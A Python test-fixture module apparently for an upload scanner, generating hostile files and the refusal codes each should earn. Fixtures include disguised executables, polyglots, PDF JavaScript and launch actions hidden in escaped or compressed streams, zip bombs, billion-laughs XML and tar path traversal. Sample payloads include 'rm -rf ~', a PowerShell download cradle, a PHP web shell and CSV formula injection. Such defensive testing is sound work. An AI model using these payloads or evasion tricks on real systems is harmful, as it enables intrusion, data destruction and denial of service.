"""Files that must not be kept, made by code: the name and type each is sent under, and the refusals it earns."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from random import Random

from onedoor.domain.papers.inspection import MAX_BYTES
from tests.papers import samples
from tests.papers.samples import chunk, jpeg_file, pack_objects, png_file, segment

pdf_file = cache(samples.pdf_file)
NOISE = Random(11).randbytes(4_000)
MEGABYTE = 1024 * 1024
#: Name, declared type: a file that calls itself what we take, or nothing at all.
GUISES = (("a.pdf", "application/pdf"), ("a.jpg", "image/jpeg"), ("a.PNG", ""), ("file", ""))
TAKEN = {"pdf": ("a.pdf", pdf_file), "jpg": ("a.jpg", jpeg_file), "png": ("a.png", png_file)}
FOREIGN = frozenset({"upload_type_not_allowed", "upload_disguised"})
TWOFOLD = frozenset({"upload_disguised", "upload_damaged"})


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file as it is sent; `codes` are the refusals that are right for it."""

    label: str
    name: str
    declared: str
    content: bytes
    codes: frozenset[str]


def zipped(*entries: tuple[str, bytes], comment: bytes = b"", mode: int = 0) -> bytes:
    """A ZIP archive; `mode` is the Unix mode of its entries (a link has 0o120777)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            entry = zipfile.ZipInfo(name)
            entry.external_attr = mode << 16
            archive.writestr(entry, content, zipfile.ZIP_DEFLATED)
        archive.comment = comment
    return out.getvalue()


def _office(*entries: tuple[str, bytes]) -> bytes:
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    )
    return zipped(("[Content_Types].xml", types), ("word/document.xml", b"<w:document/>"), *entries)


def _ole(*streams: str) -> bytes:
    """A compound file with directory entries of these names."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + bytes(64) for name in streams)
    return head.ljust(512, b"\0") + entries.ljust(1024, b"\0")


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
_LINK = (
    b'<Relationships><Relationship Id="r" Type="attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


@cache
def _bomb() -> bytes:
    return zipped(("0", bytes(20 * MEGABYTE)))


def _lying_zip() -> bytes:
    """An archive whose directory says that its one entry has four gigabytes."""
    honest = bytearray(zipped(("a", b"x")))
    at = honest.rindex(b"PK\x01\x02")
    honest[at + 24 : at + 28] = b"\xfe\xff\xff\xff"
    return bytes(honest)


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("../../etc/cron.d/x")
        entry.size = 4
        archive.addfile(entry, io.BytesIO(b"evil"))
    return out.getvalue()


@cache
def foreign() -> dict[str, bytes]:
    """What is no document and no picture of ours, by the name it would honestly have."""
    nested = zipped(("1.zip", zipped(("2.zip", zipped(("3.zip", _bomb()))))))
    return {
        "setup.exe": b"MZ\x90\0\3\0\0\0" + bytes(52) + b"\x80\0\0\0" + NOISE,
        "tool.elf": b"\x7fELF\2\1\1" + bytes(9) + NOISE,
        "tool.macho": b"\xcf\xfa\xed\xfe" + NOISE,
        "A.class": b"\xca\xfe\xba\xbe\0\0\0\x41" + NOISE,
        "run.sh": b"#!/bin/sh\nrm -rf ~\n",
        "run.py": b"#!/usr/bin/env python3\nimport os\n",
        "run.bat": b"@echo off\r\ndel /q *\r\n",
        "run.vbs": b'CreateObject("WScript.Shell").Run "cmd"',
        "run.js": b"eval(atob('YWxlcnQoMSk='))",
        "run.ps1": b"IEX (New-Object Net.WebClient).DownloadString('x')",
        "x.php": b"<?php system($_GET['c']); ?>",
        "x.jsp": b"<%@ page import='java.io.*' %>",
        "page.html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "page.xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
        "page.mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html></html>",
        "image.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "laughs.xml": LAUGHS,
        "list.csv": b'=cmd|"/c calc"!A1,1\r\n',
        "link.lnk": b"L\0\0\0\1\x14\2\0" + NOISE,
        "link.url": b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n",
        "mail.eml": b"From: a@b\r\nContent-Type: application/x-msdownload\r\n\r\nTVqQ\r\n",
        "a.rtf": b"{\\rtf1{\\object\\objocx\\objdata 0105}}",
        "a.ps": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "a.gif": b"GIF89a/*" + b"\1\0\1\0" + b"*/=1;alert(1)//",
        "a.bmp": b"BM" + struct.pack("<I", 2**31) + NOISE,
        "a.webp": b"RIFF\xff\xff\xff\xffWEBPVP8 " + NOISE,
        "a.tif": b"II*\0\x08\0\0\0" + NOISE,
        "a.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + NOISE,
        "a.mp4": b"\0\0\0\x18ftypmp42\0\0\0\0" + NOISE,
        "a.doc": _ole("Root Entry", "WordDocument", "Macros", "VBA", "AutoOpen"),
        "a.xls": _ole("Root Entry", "Workbook", "_VBA_PROJECT_CUR"),
        "plain.docx": _office(),
        "macro.docm": _office(("word/vbaProject.bin", _ole("VBA"))),
        "macro.docx": _office(("word/vbaProject.bin", _ole("VBA", "AutoOpen"))),
        "template.docx": _office(("word/_rels/settings.xml.rels", _LINK)),
        "swelling.docx": _office(("word/media/1.bin", bytes(10 * MEGABYTE))),
        "crowded.xlsx": _office(*((f"xl/{n}.xml", b"") for n in range(1_000))),
        "climbing.docx": _office(("../../../etc/passwd", b"root::0:0::/:/bin/sh")),
        "linked.docx": zipped(("word/document.xml", b"/etc/passwd"), mode=0o120777),
        "laughing.xlsx": _office(("xl/workbook.xml", LAUGHS)),
        "bomb.zip": _bomb(),
        "nested.zip": nested,
        "lying.zip": _lying_zip(),
        "scan.ofd": zipped(("OFD.xml", b"<ofd:OFD/>")),
        "a.jar": zipped(("META-INF/MANIFEST.MF", b"Main-Class: A")),
        "bomb.gz": gzip.compress(bytes(MEGABYTE)),
        "a.tar": _tar(),
        "a.rar": b"Rar!\x1a\x07\1\0" + NOISE,
        "a.7z": b"7z\xbc\xaf\x27\x1c\0\4" + NOISE,
        "a.iso": bytes(32_769) + b"CD001\1" + NOISE,
    }


def _disguised() -> Iterator[Hostile]:
    """Each under its own name and in every guise."""
    for own, content in foreign().items():
        for name, declared in ((own, ""), *GUISES):
            yield Hostile(f"{own} as {name}", name, declared, content, FOREIGN)


def _note(kind: str, text: bytes) -> bytes:
    """A file of ours that holds the text where its format keeps notes."""
    if kind == "jpg":
        return jpeg_file(extra=segment(0xFE, text[:60_000]))
    if kind == "png":
        return png_file(extra=chunk(b"tEXt", b"Comment\0" + text))
    return with_object(pdf_file(), b"(" + text + b")")


def _polyglots() -> Iterator[Hostile]:
    """Two things at once: something in front of, behind, or in a note of a file of ours."""
    archives = {"zip": zipped(("a.sh", b"echo")), "rar": foreign()["a.rar"], "7z": foreign()["a.7z"]}
    archives["word"] = foreign()["macro.docx"]
    for kind, (name, make) in TAKEN.items():
        for what in ("setup.exe", "tool.elf", "run.sh", "page.html", "x.php", "a.gif", "a.doc"):
            yield Hostile(f"{what} before {kind}", name, "", foreign()[what] + make(), TWOFOLD)
        for what in ("setup.exe", "tool.elf", "run.sh", "page.html", "image.svg"):
            yield Hostile(f"{what} behind {kind}", name, "", make() + foreign()[what], TWOFOLD)
        for what, archive in archives.items():
            yield Hostile(f"{what} before {kind}", name, "", archive + make(), TWOFOLD)
            yield Hostile(f"{what} behind {kind}", name, "", make() + archive, TWOFOLD)
            yield Hostile(f"{what} in {kind}", name, "", _note(kind, archive), TWOFOLD)
            padded = make() + archive + b"\n" * 70_000 + make()
            yield Hostile(f"{what} between two {kind}", name, "", padded, TWOFOLD)
        for markup in (b"<script>alert(1)</script>", b"<HTML >", b"<?php x ?>", b"<svg onload=x>"):
            yield Hostile(f"{markup!r} in {kind}", name, "", _note(kind, markup), TWOFOLD)
        for other, (_, made) in TAKEN.items():
            if other != kind:
                yield Hostile(f"{other} behind {kind}", name, "", make() + made(), TWOFOLD)
                yield Hostile(f"{other} named {kind}", name, "", made(), TWOFOLD)
    far = jpeg_file(extra=segment(0xE1, b"x" * 9_000 + b"<script>x</script>"))
    yield Hostile("page deep in a photo's notes", "a.jpg", "", far, TWOFOLD)
    packed = b"Comment\0\0" + zlib.compress(b"<script>x</script>")
    yield Hostile("page in a packed note", "a.png", "", png_file(extra=chunk(b"zTXt", packed)), TWOFOLD)
    clip = jpeg_file() + b"\0\0\0\x18ftypmp42" + NOISE + b"<script>x</script>"
    yield Hostile("page behind a photo's clip", "a.jpg", "", clip, TWOFOLD)


def with_object(pdf: bytes, body: bytes) -> bytes:
    """The PDF with one more object."""
    return with_bytes(pdf, b"93 0 obj\n" + body + b"\nendobj\n")


def with_bytes(pdf: bytes, more: bytes) -> bytes:
    """The PDF with more bytes before its cross-reference, to which it points as before."""
    cut = pdf.rindex(b"xref\n", 0, pdf.rindex(b"startxref"))
    moved = pdf[:cut] + more + pdf[cut : pdf.rindex(b"startxref")]
    return moved + b"startxref\n%d\n%%%%EOF\n" % (cut + len(more))


def objects(dictionary: bytes, packed: bytes) -> bytes:
    """A PDF with an object stream of this dictionary and these bytes."""
    head = b"91 0 obj\n<<%s/Length %d>>\nstream\n" % (dictionary, len(packed))
    return with_bytes(pdf_file(), head + packed + b"\nendstream\nendobj\n")


ACTIVE = {
    "script": b"<</S/JavaScript/JS(app.alert(1))>>",
    "script by reference": b"<</S/JavaScript/JS 9 0 R>>",
    "scripts of the document": b"<</Names[(a)<</S /JavaScript /JS(x)>>]>>",
    "on opening": b"<</Type/Catalog/OpenAction<</Type/Action/S/JavaScript/JS<61>>>>>",
    "on every page": b"<</AA<</O<</S/JavaScript/JS(x)>>>>>>",
    "launcher": b"<</S/Launch/F(cmd.exe)>>",
    "launcher with words": b"<</S/Launch/Win<</F(calc.exe)/P(/c x)>>>>",
    "form sent away": b"<</S/SubmitForm/F(https://evil.example)>>",
    "import": b"<</S/ImportData/F(x)>>",
    "other document": b"<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>",
    "embedded document": b"<</S/GoToE/T<</R/C>>>>",
    "media": b"<</Subtype/RichMedia>>",
    "rendition": b"<</S/Rendition/OP 0/JS(x)>>",
    "dynamic form": b"<</AcroForm<</XFA 7 0 R>>>>",
}
ATTACHED = {
    "attachment": b"<</Type/EmbeddedFile/Length 0>>",
    "attachments": b"<</Names<</EmbeddedFiles 5 0 R>>>>",
    "pinned attachment": b"<</Type/Annot/Subtype/FileAttachment>>",
}


def _escaped(body: bytes) -> bytes:
    """The same, with the third letter of every name in its escape."""
    parts = body.split(b"/")
    return b"/".join([parts[0], *(p[:1] + b"#%02x" % p[1] + p[2:] if len(p) > 2 else p for p in parts[1:])])


_PLAIN = b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode"


def _hidden(body: bytes) -> dict[str, bytes]:
    """A PDF that holds an object, in every place where a reader would find it."""
    numbered = b"90 0 " + body
    packed = zlib.compress(numbered)
    wrong = packed[:-1] + bytes([packed[-1] ^ 1])
    return {
        "plain": with_object(pdf_file(), body),
        "escaped": with_object(pdf_file(), _escaped(body)),
        "within what looks like a stream": with_bytes(
            pdf_file(), b"% stream\n93 0 obj\n" + body + b"\nendobj\n% endstream\n"
        ),
        "packed": pack_objects(pdf_file(), body),
        "packed and escaped": pack_objects(pdf_file(), _escaped(body)),
        "under an escaped name": objects(_PLAIN.replace(b"ObjStm", b"Obj#53tm"), packed),
        "under no name": objects(b"/N 1/First 5/Filter/FlateDecode", packed),
        "under a long dictionary": objects(_PLAIN + b"%" + b"x" * 5_000 + b"\n", packed),
        "with a wrong checksum": objects(_PLAIN, wrong),
        "without an end": objects(_PLAIN, packed[:-6]),
        "behind megabytes of nothing": pack_objects(pdf_file(), bytes(9 * MEGABYTE) + body),
        "unpacked": objects(b"/Type/ObjStm/N 1/First 5", numbered),
        "in letters": objects(
            b"/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]", packed.hex().encode()
        ),
    }


def _active() -> Iterator[Hostile]:
    """What a viewer would run, fetch or unwrap, in every hiding place."""
    hidden = frozenset({"upload_damaged", "upload_swells_up", "upload_active_content"})
    for bodies, code in ((ACTIVE, "upload_active_content"), (ATTACHED, "upload_carries_files")):
        for what, body in bodies.items():
            for where, content in _hidden(body).items():
                if what == "dynamic form" and where.startswith("within"):
                    continue  # so short a name is looked for where it can mean something
                yield Hostile(f"{what} {where}", "a.pdf", "application/pdf", content, hidden | {code})
    locked = pdf_file().replace(b"trailer\n<<", b"trailer\n<<\n/Encrypt 5 0 R")
    odd = pdf_file().replace(b"trailer\n<<", b"trailer\n<<\n/#45ncrypt 5 0 R")
    table = with_object(pdf_file(), b"<</Type/XRef/Encrypt 5 0 R>>")
    for at, content in enumerate((locked, odd, table)):
        yield Hostile(f"encrypted {at}", "a.pdf", "", content, frozenset({"upload_encrypted"}))


def _floods() -> Iterator[Hostile]:
    """Small on the line, huge in memory; or nothing but pieces."""
    pixels = frozenset({"image_too_large"})
    for width, height in ((60_000, 60_000), (30_000, 1), (1, 30_000), (20_000, 20_000), (2**31 - 1, 1)):
        yield Hostile(f"pixels {width}x{height}", "a.png", "", png_file(width, height), pixels)
        if width < 65_536:
            yield Hostile(f"photo {width}x{height}", "a.jpg", "", jpeg_file(width, height), pixels)
    flood = with_object(pdf_file(), b"<</Subtype/Image/Width 65000/Height 65000>>\nstream\nx\nendstream")
    yield Hostile("pixels in a document", "a.pdf", "", flood, pixels)
    swelling = frozenset({"upload_swells_up", "upload_damaged", "upload_too_large"})
    big = zlib.compress(bytes(10 * MEGABYTE))
    for kind, before in ((b"zTXt", b"x\0\0"), (b"iCCP", b"x\0\0"), (b"iTXt", b"x\0\1\0\0\0")):
        yield Hostile(f"swelling {kind!r}", "a.png", "", png_file(extra=chunk(kind, before + big)), swelling)
    many = chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(MEGABYTE))) * 20
    yield Hostile("many swelling notes", "a.png", "", png_file(extra=many), swelling)
    yield Hostile("objects that swell", "a.pdf", "", pack_objects(pdf_file(), bytes(10 * MEGABYTE)), swelling)
    seven = zlib.compress(b"90 0 " + bytes(7 * MEGABYTE))
    one = b"91 0 obj\n<<" + _PLAIN + b">>\nstream\n" + seven + b"\nendstream\nendobj\n"
    yield Hostile("many objects that swell", "a.pdf", "", with_bytes(pdf_file(), one * 12), swelling)
    words = {b"stream\n": "openings", b"stream\nendstream\n": "empty streams"}
    for word, what in words.items():
        content = with_bytes(pdf_file(), word * (MEGABYTE // len(word)))
        yield Hostile(f"a megabyte of {what}", "a.pdf", "", content, swelling)
    notes = png_file(extra=chunk(b"tEXt", b"") * 90_000)
    yield Hostile("notes without end", "a.png", "", notes, swelling)
    yield Hostile("segments without end", "a.jpg", "", jpeg_file(extra=segment(0xFE, b"") * 9_000), swelling)
    yield Hostile("scans without end", "a.jpg", "", jpeg_file(frame=0xC2, scans=900), swelling)


def _broken() -> Iterator[Hostile]:
    """Cut, empty, too large, or announcing what is not there."""
    damaged = frozenset({"upload_damaged"})
    for kind, (name, make) in TAKEN.items():
        content = make()
        yield Hostile(f"empty {kind}", name, "", b"", frozenset({"upload_empty"}))
        for share in (0.1, 0.3, 0.5, 0.7, 0.9, 0.97):
            cut = content[: max(12, int(len(content) * share))]
            yield Hostile(f"{kind} cut at {share}", name, "", cut, damaged)
        large = content + b"\n" * MAX_BYTES
        yield Hostile(f"endless {kind}", name, "", large, frozenset({"upload_too_large"}))
        blank = frozenset({"upload_disguised", "upload_type_not_allowed"})
        for what, nothing in (("zeros", bytes(900)), ("noise", NOISE), ("spaces", b" " * 900)):
            yield Hostile(f"{what} named {kind}", name, "", nothing, blank)
    huge = b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR" + NOISE
    yield Hostile("a chunk of four gigabytes", "a.png", "", huge, damaged)
    late = png_file()[:-12] + b"\xff\xff\xff\xf0IDAT" + NOISE
    yield Hostile("a last chunk of four gigabytes", "a.png", "", late, damaged)
    stream = with_object(pdf_file(), b"<</Length 4294967296>>\nstream\nx\nendstream")
    yield Hostile("a stream of four gigabytes", "a.pdf", "", stream, damaged)
    digits = with_object(pdf_file(), b"<</Length " + b"9" * 5_000 + b">>\nstream\nx\nendstream")
    yield Hostile("a length of thousands of digits", "a.pdf", "", digits, damaged)
    nowhere = pdf_file().replace(b"startxref\n", b"startxref\n9")
    yield Hostile("a reference far behind the end", "a.pdf", "", nowhere, damaged)
    yield Hostile("a segment past the end", "a.jpg", "", jpeg_file()[:-2] + b"\xff\xfe\xff\xff", damaged)


def _named() -> Iterator[Hostile]:
    """Good files under names that mislead people or programs."""
    unfit = frozenset({"upload_name_unfit"})
    names = [f"工资\u202e{kind[::-1]}.exe.{kind}" for kind in TAKEN]
    names += [f"a{mark}.pdf" for mark in "\0\x07\x1b\r\n\x85\u202a\u202b\u202d\u2066\u2067\u2068\u2069"]
    names += ["setup.exe.pdf", "a.SCR.pdf", "a.bat .pdf", "合同.vbs.pdf", "a.lnk.pdf", "a.pdf.hta.pdf"]
    names += ["../a.pdf", "../../../etc/a.pdf", "..\\..\\a.pdf", "x/../../a.pdf", "C:\\..\\a.pdf"]
    names += ["长" * 300 + ".pdf", "a" * 100_000 + ".pdf", "a.pdf\r\nSet-Cookie: a=b"]
    for at, name in enumerate(names):
        kind = name.rpartition(".")[2]
        make = TAKEN[kind][1] if kind in TAKEN else pdf_file
        yield Hostile(f"misleading name {at}", name, "", make(), unfit)
    not_ours = frozenset({"upload_type_not_allowed"})
    for name in ("a.pdf.exe", "a.jpg.php", "a.pdf/x.html", "a.pdf .js", "a.PDF.SVG", ".htaccess.txt"):
        yield Hostile(f"other extension {name}", name, "", pdf_file(), not_ours)
    for declared in ("text/html", "image/svg+xml", "application/x-msdownload", "text/html;charset=utf-8"):
        yield Hostile(f"claimed {declared}", "a.pdf", declared, pdf_file(), not_ours)


@cache
def hostile() -> tuple[Hostile, ...]:
    """All of them."""
    return (*_disguised(), *_polyglots(), *_active(), *_floods(), *_broken(), *_named())
